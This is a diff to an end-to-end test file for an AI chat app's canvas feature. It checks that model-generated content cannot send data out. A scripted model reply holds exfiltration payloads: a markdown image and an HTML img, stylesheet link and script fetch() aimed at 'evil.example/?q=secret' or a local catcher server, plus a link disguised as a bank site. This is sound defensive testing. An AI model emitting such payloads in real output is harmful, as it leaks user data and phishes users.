@@ -1,3 +1,5 @@
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import type { Page } from "playwright-core";
 import { expect, test, vi } from "vitest";
 import { promptFieldText } from "#product/texts/builder/prompt-field.ts";
@@ -47,6 +49,24 @@ function createGate(after: number) {
     open = resolve;
   });
   return { gate: { after, open: opened }, open: () => open() };
+}
+
+/** A site that waits for what a canvas sends away. */
+async function startEvilSite() {
+  const hits: string[] = [];
+  const server = createServer((request, response) => {
+    hits.push(request.url ?? "");
+    response.writeHead(204).end();
+  });
+  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/?q=secret`,
+    hits,
+    async close() {
+      server.closeAllConnections();
+      await new Promise((done) => server.close(done));
+    },
+  };
 }
 
 const toolCall = (name: string, input: object) => ({ toolCalls: [{ name, input }] });
@@ -193,11 +213,14 @@ test("a canvas that tries to send data away loads nothing by itself: as text, wh
   const { page } = there;
   await openScriptedChat(page);
   const panel = page.getByRole("region", { name: canvasPanelText.canvas });
+  const evil = await startEvilSite();
   const leak = "https://evil.example/?q=secret";
   const lure = `![chart](${leak})\n\n[https://bank.example](https://evil.example/login)\n\nRead this.`;
   own.double.queueReply(toolCall("create_canvas", { kind: "TEXT", title: "Offer", content: lure }));
   own.double.queueReply({ text: "Done." });
   await send(page, "Write the offer");
+  await page.getByRole("button", { name: text.openCanvas("Offer") }).click();
+  await page.getByText("Done.").waitFor();
   await waitForAnswer(page);
   const article = panel.getByRole("article");
   await article.getByRole("button", { name: "evil.example" }).waitFor();
@@ -210,21 +233,26 @@ test("a canvas that tries to send data away loads nothing by itself: as text, wh
   await editor.getByText("Read this.").waitFor();
   expect(await editor.locator("img[src]").count()).toBe(0);
   await panel.getByRole("button", { name: canvasPanelText.done }).click();
+  expect(there.externalRequests).toEqual([]);
 
   own.double.queueReply(toolCall("create_canvas", { kind: "HTML", title: "Page", task: "A page" }));
   own.double.queueReply({
-    text: `<!doctype html><html><body><h1>Offer</h1><img src="${leak}"><link rel="stylesheet" href="${leak}"><script>fetch("${leak}")</script></body></html>`,
+    text: `<!doctype html><html><body><h1>Offer</h1><img src="${evil.url}"><link rel="stylesheet" href="${evil.url}"><script>fetch("${evil.url}")</script></body></html>`,
   });
   own.double.queueReply({ text: "Done." });
   await send(page, "Write the page");
+  await page.getByRole("button", { name: text.openCanvas("Page") }).click();
+  await page.getByText("Done.").nth(1).waitFor();
   await waitForAnswer(page);
   const frame = panel.locator("iframe");
   await frame.waitFor();
   expect(await frame.getAttribute("sandbox")).toBe("");
   await frame.contentFrame().getByRole("heading", { name: "Offer" }).waitFor();
   await saveScreenshot(page, "canvas-untrusted-page");
-  expect(there.externalRequests).toEqual([]);
+  // The browser reports the requests that its policy stops, so only the site knows what arrived.
+  expect(evil.hits).toEqual([]);
   await there.context.close();
+  await evil.close();
 });
 
 test.each(["desktop", "tablet", "phone"] as const)(
@@ -276,7 +304,7 @@ test.each(["desktop", "tablet", "phone"] as const)(
     await row("High and low water").waitFor();
     await look("typical");
     await row("High and low water").click();
-    await page.getByRole("article").getByText("Tides").waitFor();
+    await page.getByRole("article", { name: artifactText.kinds.text }).getByText("Tides").waitFor();
     await page.getByRole("button", { name: canvasListText.open }).last().click();
 
     await panel.getByRole("button", { name: canvasListText.actions("High and low water") }).click();
@@ -290,7 +318,6 @@ test.each(["desktop", "tablet", "phone"] as const)(
     await row("High and low water").waitFor({ state: "detached" });
     await row("Harbor guide").waitFor();
     await closePanel();
-    await page.getByRole("button", { name: /^2 actions/ }).click();
     await page.getByText(text.deleted("Tides")).waitFor();
     expect(await page.getByRole("button", { name: text.openCanvas("Tides") }).count()).toBe(0);
     await saveScreenshot(page, `canvas-deleted-card-${size}`);
@@ -301,7 +328,7 @@ test.each(["desktop", "tablet", "phone"] as const)(
       (_, at) => `Report ${at + 1} on ${"the currents of the northern seas ".repeat(4)}`,
     );
     await send(page, create(many));
-    await page.getByRole("button", { name: /^9 actions/ }).waitFor();
+    await page.getByText("Tool results").nth(1).waitFor();
     await waitForAnswer(page);
     if (size === "desktop") await closePanel();
     await openList();
